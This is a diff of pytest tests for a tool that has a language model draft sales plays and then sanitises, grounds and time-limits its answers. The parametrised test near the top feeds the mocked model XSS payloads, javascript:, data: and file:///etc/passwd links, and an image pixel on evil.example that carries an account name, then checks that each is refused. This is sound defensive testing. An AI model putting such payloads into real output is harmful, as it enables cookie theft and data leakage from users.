@@ -193,3 +193,126 @@ def test_accounts_without_plays_do_not_call_the_model(llm_env, enriched):
     facts_list = gather_facts(enriched, ["harborviewhealth.org"])
     documents, warnings = run(facts_list)
     assert llm_env.requests == [] and warnings == [] and documents[0].plays == []
+
+
+# --- issue #12: what a model may put into a play, how much, and for how long ----------------------
+
+@pytest.mark.parametrize("injection, refused_for", [
+    ("![usage chart](https://evil.example/pixel.png?account=acme)", "an image '![usage chart]'"),
+    ('<img src=x onerror="alert(1)">', "an image '<img src=x onerror=\"alert(1)\">'"),
+    ("<svg onload=alert(1)></svg>", "an image '<svg onload=alert(1)>'"),
+    ("<script>alert(document.cookie)</script>", "HTML that can run or load content '<script>'"),
+    ('<iframe src="https://evil.example"></iframe>', "HTML that can run or load content"),
+    ('<span onmouseover="alert(1)">hover</span>', "HTML with an event handler"),
+    ("[Book a call](javascript:alert(document.cookie))", "a link to 'javascript:alert(document.cookie)' "
+                                                          "(only http:// and https:// links are allowed)"),
+    ("[Book a call](JaVaScRiPt:alert(1))", "a link to 'JaVaScRiPt:alert(1)'"),
+    ("[Book a call](&#106;avascript:alert(1))", "a link to '&#106;avascript:alert(1)'"),
+    ("[Pricing](data:text/html;base64,PHNjcmlwdD4=)", "a link to 'data:text/html;base64,PHNjcmlwdD4='"),
+    ("Open <vbscript:msgbox> now", "a link to 'vbscript:msgbox'"),
+    ("[Book a call][cal]\n\n[cal]: file:///etc/passwd", "a link to 'file:///etc/passwd'"),
+    ("[Write to us](mailto:sales@beton.example)", "a link to 'mailto:sales@beton.example'"),
+    ("<<b>script>alert(1)<</b>/script>", "HTML that can run or load content '<script>'"),  # assembled by stripping
+])
+def test_answers_with_images_active_html_or_non_http_links_are_refused(llm_env, acme_facts, injection, refused_for):
+    llm_env.injection = injection
+    documents, warnings = run(acme_facts)
+    assert len(llm_env.requests) == 1
+    assert documents[0].fallback and documents[0].engine == "deterministic"
+    assert f"the model's answer contains {refused_for}" in warnings[0]
+    assert "such answers are refused); the deterministic engine wrote this play instead" in warnings[0]
+    assert injection not in documents[0].markdown
+
+
+def test_harmless_html_is_stripped_and_https_links_kept(llm_env, acme_facts):
+    llm_env.injection = ('<b>Lead</b> with <i>their</i> wins.<br/><!-- internal: push hard --> Book at '
+                         '[our calendar](https://cal.example/beton "calendar") or write to <ana@beton.example>.\n\n'
+                         '<div class="note">Keep it short.</div> a < b and c > d')
+    documents, warnings = run(acme_facts)
+    assert warnings == [] and documents[0].engine == "llm"
+    markdown = documents[0].markdown
+    assert ("Lead with their wins. Book at [our calendar](https://cal.example/beton \"calendar\") or write to "
+            "ana@beton.example.\n\nKeep it short. a < b and c > d") in markdown
+    assert "<" + "b>" not in markdown and "push hard" not in markdown and "<div" not in markdown
+
+
+def test_refusing_one_answer_does_not_stop_the_llm_for_the_next_accounts(llm_env, enriched):
+    llm_env.injection = "[x](javascript:void(0))"
+    facts_list = gather_facts(enriched, ["acme.io", "pipewise.app"])
+    documents, warnings = run(facts_list)
+    assert len(llm_env.requests) == 2 and len(warnings) == 2
+    assert all(d.fallback for d in documents)
+
+
+@pytest.mark.parametrize("hidden, token", [
+    ("USD250000", "250000"), ("INV7431A", "7431"), ("two hundred fifty thousand", "two hundred fifty thousand"),
+    ("a million", "a million"), ("$250k", "250k"), ("2.5 million", "2.5 million"),
+])
+def test_numbers_glued_to_letters_or_in_words_are_grounded_too(llm_env, acme_facts, hidden, token):
+    llm_env.injection = f"Offer {hidden} off if they sign this week."
+    documents, warnings = run(acme_facts)
+    assert documents[0].fallback
+    assert f"the model wrote numbers that are not in the facts: {token})" in warnings[0]
+
+
+def test_number_words_from_the_facts_are_grounded(llm_env, acme_facts):
+    usage = acme_facts[0]["usage"]
+    assert usage["active_users_30d"] == 3      # the mock data: acme has three active users
+    llm_env.injection = "All three active users are on board; one of them leads."
+    documents, warnings = run(acme_facts)
+    assert warnings == [] and "All three active users are on board; one of them leads." in documents[0].markdown
+
+
+@pytest.mark.parametrize("chunked", [False, True])
+def test_a_huge_answer_is_refused_without_reading_it_all(llm_env, acme_facts, chunked):
+    llm_env.mode, llm_env.huge_chunked, llm_env.huge_bytes = "huge", chunked, 5_000_000
+    documents, warnings = run(acme_facts)
+    assert len(llm_env.requests) == 1 and documents[0].fallback
+    assert "answered more than 64 KiB; a chat completion with the plays is a few kB" in warnings[0]
+
+
+def test_an_answer_just_under_the_cap_is_read(llm_env, acme_facts):
+    from beton_runner.plays.llm import MAX_ANSWER_BYTES
+
+    assert MAX_ANSWER_BYTES == 65536
+    llm_env.mode, llm_env.huge_chunked, llm_env.huge_bytes = "huge", True, 40_000
+    documents, warnings = run(acme_facts)
+    assert warnings == [] and documents[0].engine == "llm"
+
+
+def test_a_trickling_server_is_cut_off_at_the_deadline(llm_env, acme_facts, monkeypatch):
+    """One byte a second never trips a 3 s read timeout; the 2 s deadline for the whole request ends it."""
+    import time
+
+    monkeypatch.setenv("BETON_LLM_TIMEOUT", "3")
+    monkeypatch.setenv("BETON_LLM_RETRIES", "0")
+    monkeypatch.setenv("BETON_LLM_DEADLINE", "2")
+    llm_env.mode, llm_env.trickle_interval, llm_env.trickle_limit = "trickle", 1.0, 8
+    started = time.monotonic()
+    documents, warnings = run(acme_facts)
+    elapsed = time.monotonic() - started
+    assert documents[0].fallback and len(llm_env.requests) == 1
+    assert "did not answer within its deadline of 2 s (BETON_LLM_DEADLINE: the whole request, retries included)" \
+           in warnings[0]
+    assert 1.9 <= elapsed < 4.0, elapsed
+
+
+def test_the_deadline_covers_retries(llm_env, acme_facts, monkeypatch):
+    """Each attempt times out at 0.4 s; with 5 retries and backoff the deadline of 1.5 s comes first."""
+    import time
+
+    monkeypatch.setenv("BETON_LLM_RETRIES", "5")
+    monkeypatch.setenv("BETON_LLM_DEADLINE", "1.5")
+    llm_env.mode, llm_env.delay = "slow", 1.0
+    started = time.monotonic()
+    documents, warnings = run(acme_facts)
+    assert time.monotonic() - started < 2.5
+    assert documents[0].fallback and "did not answer within its deadline of 1.5 s" in warnings[0]
+
+
+def test_deadline_setting(monkeypatch):
+    env = {"BETON_LLM_BASE_URL": "http://127.0.0.1:9/v1", "BETON_LLM_MODEL": MODEL}
+    assert LLMSettings.from_env(env).total_deadline == 2 * 60 * 3 + 1.0     # 2 x timeout x attempts + pauses 0 and 1 s
+    assert LLMSettings.from_env({**env, "BETON_LLM_DEADLINE": "30"}).total_deadline == 30
+    with pytest.raises(ConfigError, match="BETON_LLM_DEADLINE must be positive"):
+        LLMSettings.from_env({**env, "BETON_LLM_DEADLINE": "0"})
